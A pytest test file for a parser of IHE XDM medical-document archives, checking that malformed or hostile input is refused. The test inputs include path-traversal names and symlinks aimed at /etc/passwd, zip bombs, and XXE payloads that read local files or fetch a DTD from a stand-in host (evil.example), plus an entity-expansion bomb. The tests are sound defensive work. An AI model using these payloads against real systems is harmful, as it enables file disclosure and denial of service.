"""Archives of document mails under the limits of S112."""

import io
import random
import stat
import zipfile
from datetime import date

import pytest

from app.errors import RuleViolation
from app.integrations import xdm
from tests.mails import metadata_of, xdm as archive


def _refused(content: bytes) -> str:
    with pytest.raises(RuleViolation) as failure:
        xdm.list_documents(content)
    return failure.value.code


class TestListDocuments:
    def test_FB13_lists_what_it_describes(self):
        found = xdm.list_documents(archive({"DOC0001.PDF": b"%PDF-1", "DOC0002.XML": b"<a/>"}))
        assert found == [
            xdm.XdmDocument(
                0, "DOC0001.PDF", "Compte rendu DOC0001.PDF", "11488-4", date(2026, 3, 1), 6
            ),
            xdm.XdmDocument(
                1, "DOC0002.XML", "Compte rendu DOC0002.XML", "11488-4", date(2026, 3, 1), 4
            ),
        ]

    def test_gives_the_bytes_of_one(self):
        document, body = xdm.extract_document(archive({"A.PDF": b"un", "B.PDF": b"deux"}), 1)
        assert (document.name, body) == ("B.PDF", b"deux")
        with pytest.raises(RuleViolation, match=r"xdm\.no_document"):
            xdm.extract_document(archive(), 7)

    def test_names_are_looked_up_and_never_a_path(self):
        outside = metadata_of("../../../etc/passwd")
        assert _refused(archive({"A.PDF": b"x"}, metadata=outside)) == "xdm.empty"

    def test_what_is_described_but_absent_is_not_listed(self):
        found = xdm.list_documents(archive({"A.PDF": b"x"}, metadata=metadata_of("B.PDF", "A.PDF")))
        assert [each.name for each in found] == ["A.PDF"]

    def test_an_impossible_day_is_unknown(self):
        metadata = metadata_of("A.PDF").replace("20260301", "20269901")
        assert xdm.list_documents(archive({"A.PDF": b"x"}, metadata=metadata))[0].made_on is None

    @pytest.mark.parametrize("name", ["IHE_XDM.zip", "ihe_xdm.ZIP", "2026_IHE_XDM.zip"])
    def test_knows_one_by_its_name(self, name):
        assert xdm.is_archive(name)
        assert not xdm.is_archive("photos.zip")


class TestArchiveLimits:
    def test_damaged(self):
        whole = archive()
        assert _refused(b"") == "xdm.damaged"
        assert _refused(b"not a zip") == "xdm.damaged"
        assert _refused(whole[:-30]) == "xdm.damaged"
        middle = whole.index(b"METADATA.XML") + 40
        assert _refused(whole[:middle] + b"\x00" * 20 + whole[middle + 20 :]) == "xdm.damaged"

    def test_101_entries(self):
        many = {f"D{n}.TXT": b"x" for n in range(99)}
        assert _refused(archive(many)) == "xdm.too_many"
        assert _refused(b"PK\x01\x02" * 2_000) == "xdm.too_many"

    def test_a_bomb_by_ratio(self):
        assert _refused(archive({"A.TXT": bytes(10_000_000)})) == "xdm.too_large"

    def test_more_than_50_MB_unpacked(self):
        packed = io.BytesIO()
        part = bytes(range(256)) * 64 * 1024  # 16 MB, whose size alone is looked at
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_STORED) as big:
            for n in range(4):
                big.writestr(f"{n}.bin", part)
        assert _refused(packed.getvalue()) == "xdm.too_large"

    def test_links_and_devices(self):
        for kind in (stat.S_IFLNK, stat.S_IFCHR, stat.S_IFIFO):
            link = zipfile.ZipInfo("IHE_XDM/SUBSET01/LINK")
            link.external_attr = (kind | 0o777) << 16
            assert _refused(archive(others=((link, b"/etc/passwd"),))) == "xdm.link"

    def test_the_same_name_twice(self):
        with pytest.warns(UserWarning, match="Duplicate name"):
            twice = archive(others=(("README.TXT", b"x"),))
        assert _refused(twice) == "xdm.damaged"

    def test_another_way_to_pack(self):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_LZMA) as other:
            other.writestr("A", b"x" * 100)
        assert _refused(packed.getvalue()) == "xdm.damaged"

    def test_a_size_that_lies(self):
        whole = bytearray(archive({"A.PDF": random.Random(1).randbytes(4_000)}))
        at = whole.rindex(b"PK\x01\x02")
        whole[at + 24 : at + 28] = (9_000).to_bytes(4, "little")
        assert _refused(bytes(whole)) == "xdm.damaged"


class TestXml:
    @pytest.mark.parametrize(
        "head",
        [
            '<!DOCTYPE a [<!ENTITY e "x">]>',
            '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
            '<!DOCTYPE a [<!ENTITY % e SYSTEM "http://evil.example/x.dtd"> %e;]>',
            '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd">',
            '<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>',
        ],
    )
    def test_no_dtd_no_entity_no_network(self, head):
        metadata = metadata_of("A.PDF").replace("?>", f"?>{head}", 1)
        assert _refused(archive({"A.PDF": b"x"}, metadata=metadata)) == "xdm.xml"

    def test_no_deeper_than_100(self):
        xdm.parse_xml(b"<a>" * 100 + b"</a>" * 100)
        for depth in (101, 200_000):
            with pytest.raises(RuleViolation, match=r"xdm\.xml"):
                xdm.parse_xml(b"<a>" * depth + b"</a>" * depth)

    def test_no_larger_than_10_MB(self):
        with pytest.raises(RuleViolation, match=r"xdm\.xml"):
            xdm.parse_xml(b"<a>" + b" " * xdm.MAX_XML + b"</a>")

    @pytest.mark.parametrize("content", [b"", b"<a", b"<a></b>", b"\xff\xfe<a/>", b"<a>&x;</a>"])
    def test_what_is_no_xml(self, content):
        with pytest.raises(RuleViolation, match=r"xdm\.xml"):
            xdm.parse_xml(content)
